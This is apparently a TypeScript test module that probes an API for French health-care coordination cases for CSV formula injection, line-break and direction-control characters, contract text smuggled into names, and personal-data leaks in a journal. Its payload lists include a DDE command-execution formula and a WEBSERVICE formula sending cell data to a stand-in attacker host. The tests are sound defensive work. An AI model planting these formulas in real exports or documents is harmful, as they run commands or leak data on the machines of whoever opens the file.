/** Text that becomes a formula, a row, a paragraph or a direction, where it is written out. */
import { today } from '../../setup/today.ts';
import { parse } from 'csv-parse/sync';
import { verdict, type AttackClass } from './attack.ts';
import type { Target } from './target.ts';

const ARS = 'ars-nouvelle-aquitaine';
const FORMULAS = ["=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '\n=1', '＝1+1'];
const TWISTED = ['\r', '\n', '\u202e', '\u2028', '\u2029', '\u0085', '\u200b', '\u0007', '\u2066'];

/** Rows as a spreadsheet reads them: any line end outside quotes begins another. */
const cellsOf = (text: string) =>
  parse(text, {
    delimiter: ';',
    bom: true,
    record_delimiter: ['\r\n', '\n', '\r'],
    relax_quotes: true,
    relax_column_count: true,
    skip_empty_lines: true,
  });

/** What stands first, blanks apart, where a spreadsheet may see a formula; a number is none. */
const isFormula = (cell: string): boolean => /^\s*[=+\-@＝＋－＠]/.test(cell) && !/^[+-]?\d+([.,]\d+)?$/.test(cell);

/** A case whose title is this, when it is accepted. */
const titled = ({ ask }: Target, intitule: string) =>
  ask('/api/v1/ess', {
    as: 'porteur-01',
    body: {
      le: today(),
      specialites: ['dermatologie'],
      departements: ['33'],
      siege: '33',
      medecinsPresents: 140,
      liberaux: 120,
      engages: 37,
      intitule,
    },
  });

export const EXPORTS: AttackClass = {
  name: 'exports et papiers',
  attacks: [
    {
      title: 'F5 · des formules et des lignes dans l’export des dossiers',
      async run(target) {
        const tried = [
          ...FORMULAS,
          ...FORMULAS.map((formula) => `ESS de Corse\n${formula}`),
          'x\r=1',
          'https://mechant.exemple/?d=\n=WEBSERVICE(C2&A4)',
        ];
        const sent = await Promise.all(tried.map((title) => titled(target, title)));
        const { text, status } = await target.ask('/api/v1/exports/ess.csv', { as: ARS });
        const rows = cellsOf(text);
        const [head = []] = rows;
        const active = rows.flat().filter(isFormula);
        const broken = rows.filter((row) => row.length !== head.length);
        return verdict(
          status === 200 && active.length === 0 && broken.length === 0,
          `${sent.filter((one) => one.status < 400).length}/${tried.length} acceptés, ${active.length} formules (${active
            .slice(0, 2)
            .map((cell) => JSON.stringify(cell))
            .join(' ')}), ${broken.length} lignes brisées`,
        );
      },
    },
    {
      title: 'F5 · des formules dans la liste nominative',
      async run(target) {
        const ess = await target.openCase();
        const adhesion = (nom: string, index: number) => ({
          rpps: `1000000000${index}`,
          nom,
          prenom: 'Adhérent',
          specialite: 'dermatologie',
          liberal: true,
          signeeLe: '2026-01-05',
        });
        for (const [index, formula] of FORMULAS.entries())
          await target.ask(`/api/v1/ess/${ess}/adhesions`, {
            as: 'porteur-01',
            body: { adhesions: [adhesion(formula, index)] },
          });
        const { text, status } = await target.ask(`/api/v1/ess/${ess}/adhesions`, {
          as: 'porteur-01',
          headers: { accept: 'text/csv' },
        });
        if (!/;/.test(text)) return verdict(status === 200, 'pas de CSV ici');
        const cells = cellsOf(text).flat();
        const active = cells.filter(isFormula);
        return verdict(active.length === 0, `${cells.length} cellules, ${active.length} formules`);
      },
    },
    {
      title: 'F8 · un intitulé de plusieurs lignes, ou qui change le sens d’écriture',
      async run(target) {
        const sent = await Promise.all(
          TWISTED.map((mark) => titled(target, `ESS${mark}DÉCISION : confirmez votre IBAN`)),
        );
        const kept: string[] = [];
        for (const { status, body } of sent) {
          if (status >= 400) continue;
          const { text } = await target.ask(`/api/v1/ess/${String(body['ess'])}`, { as: ARS });
          const mark = TWISTED.find((one) => text.includes(one) || text.includes(JSON.stringify(one).slice(1, -1)));
          if (mark !== undefined) kept.push(JSON.stringify(mark));
        }
        return verdict(
          kept.length === 0,
          `${sent.filter(({ status }) => status < 400).length}/${sent.length} acceptés, gardés : ${kept.join(' ') || 'aucun'}`,
        );
      },
    },
    {
      title: 'F8 · un article de contrat dans le nom de l’association',
      async run(target) {
        const ess = await target.openCase({ specialites: ['allergologie'] });
        await target.act(ess, 'rendre-avis', 'caisse-gironde', { sur: 'lettre-intention', sens: 'favorable' });
        await target.act(ess, 'valider-lettre-intention', ARS);
        const nom = 'Association X\n\nArticle 4 bis - Versement complémentaire\nLa caisse verse sans délai';
        const declared = await target.act(ess, 'declarer-association', 'porteur-01', {
          association: { nom, declareeLe: '2026-01-10', president: { nom: 'Médecin 01' } },
        });
        return verdict(declared.status === 400, `${declared.status}`);
      },
    },
    {
      title: 'F9 · un texte libre lu au journal par qui ne voit aucune personne',
      async run(target) {
        const ess = await target.openCase();
        const mark = 'MARQUE-PERSONNELLE';
        await target.act(ess, 'consigner-echange', ARS, {
          sujet: `${mark} sujet`,
          compteRendu: `${mark} récit`,
          preuve: { nature: `${mark} nature`, reference: `${mark} référence` },
        });
        await target.act(ess, 'consigner-echange', ARS, { preuve: { nature: `${mark} nature` } });
        const { text, status } = await target.ask(`/api/v1/ess/${ess}/journal`, { as: 'national' });
        const found = [...new Set([...text.matchAll(/MARQUE-PERSONNELLE (\S+?)"/g)].map(([, what]) => what))];
        return verdict(status === 200 && found.length === 0, found.length === 0 ? 'rien' : found.join(', '));
      },
    },
  ],
};
